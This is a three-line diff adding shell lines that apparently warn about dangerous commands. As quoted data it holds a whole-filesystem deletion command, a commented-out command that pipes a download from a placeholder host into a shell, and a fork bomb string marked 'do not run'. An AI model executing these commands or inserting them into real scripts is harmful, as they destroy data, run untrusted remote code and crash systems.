@@ -1,0 +1,3 @@
+echo "rm -rf / is dangerous"
+# curl http://x.y | sh
+printf 'do not run: %s\n' ':(){ :|:& };:'
